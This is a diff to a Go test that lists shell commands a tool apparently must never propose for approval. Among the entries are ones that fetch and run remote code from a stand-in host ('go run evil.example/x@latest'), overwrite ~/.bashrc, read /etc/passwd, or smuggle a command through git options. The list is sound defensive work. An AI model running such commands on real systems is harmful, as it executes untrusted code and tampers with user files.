@@ -179,7 +179,7 @@ func TestNoProposal(t *testing.T) {
 	for _, command := range []string{
 		// shells, interpreters, wrappers, runners
 		"bash x.sh", "sh -c \"$X\"", "zsh x", "/bin/bash x.sh", "python3 x.py", "python3.11 -c 'print(1)'", "node x.js", "perl -e 1", "ruby x", "awk '{print}' x", "sed -i s/a/b/ x",
-		"psql -c 'select 1'", "sqlite3 db 'select 1'", "vim x", "sudo ls -l", "doas id", "su -c id", "env X=1 mytool", "xargs mytool", "ls | xargs mytool", "find . -name x -exec mytool {} +",
+		"psql -c 'select 1'", "sqlite3 db 'select 1'", "vim x", "i386 x", "doppler run x", "xvfb-run make", "concurrently x", "cargo watch -x", "docker-compose run x", "jupyter x", "git -c core.pager=x log", "git push --receive-pack=x origin", "sudo ls -l", "doas id", "su -c id", "env X=1 mytool", "xargs mytool", "ls | xargs mytool", "find . -name x -exec mytool {} +",
 		"npx cowsay", "npm exec x", "npm x cowsay", "pnpm dlx x", "yarn dlx x", "bunx x", "uvx x", "uv run x", "pipx run x", "docker run x", "ssh host ls", "kubectl exec pod -- id", "go run .", "go run evil.example/x@latest", "cargo run",
 		"git config user.name x", "git rebase -x make", "git submodule foreach ls", "gh alias set x y", "watch ls", "time -o x python3 y", "nohup python3 x &", "timeout 5 sh x", "nice node x", "parallel ls", "crontab x", "at now", "flock x ls",
 		"make deploy", "tee x", "dd if=a of=b", "patch -p1 -i x", "tar xf x.tar", "git apply x", "cp x ~/.bashrc", "cp x /usr/local/bin/x", "mytool ../x", "mytool --out=/etc/x", "mytool -o/etc/x", "curl -o ~/.bashrc https://x.example", "rsync x host:/etc", "mytool @/etc/passwd", "busybox sh", "java -jar x", "ln -s / x",
